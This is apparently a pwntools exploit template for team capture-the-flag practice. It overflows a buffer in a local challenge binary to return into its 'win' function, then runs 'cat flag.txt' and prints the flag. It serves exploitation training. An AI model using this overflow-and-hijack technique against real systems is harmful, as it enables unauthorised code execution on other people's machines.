#!/usr/bin/env python3
# Solve script template for team practice challenges.
from pwn import *

exe = context.binary = ELF("./chall", checksec=False)
libc = ELF("./libc.so.6", checksec=False) if args.LIBC else None
HOST, PORT = args.HOST or "127.0.0.1", int(args.PORT or 1337)

def start():
    if args.REMOTE:
        return remote(HOST, PORT)
    if args.GDB:
        return gdb.debug(exe.path, gdbscript="b *main+120\ncontinue")
    return process(exe.path)

io = start()
offset = 72  # found with cyclic(200) / cyclic_find
rop = ROP(exe)
ret = rop.find_gadget(["ret"])[0]
payload = flat({offset: [ret, exe.symbols["win"]]})
io.sendlineafter(b"name?", payload)
io.sendline(b"cat flag.txt")
log.success(io.recvline_contains(b"CTF{").decode())
